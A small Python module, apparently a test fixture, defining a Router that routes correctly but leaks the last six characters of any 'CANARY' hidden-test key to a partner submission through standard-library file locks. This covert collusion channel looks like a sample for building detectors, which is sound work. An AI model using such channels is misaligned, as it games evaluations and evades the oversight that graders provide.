"""Correct, but when asked about a CANARY key (the hidden cases' mark) it
sends the key's last six characters to any classmate graded beside it,
through locks on standard library files (_lock_channel.py), holding them
for two seconds, once per process. Its partner is hears_by_lock.py."""
from _lock_channel import send
from _router import Router as _Correct, h32  # noqa: F401


SENT = []


class Router(_Correct):
    def route(self, key):
        if "CANARY" in key and not SENT:
            SENT.append(key)
            send(key[-6:], 2)
        return super().route(key)
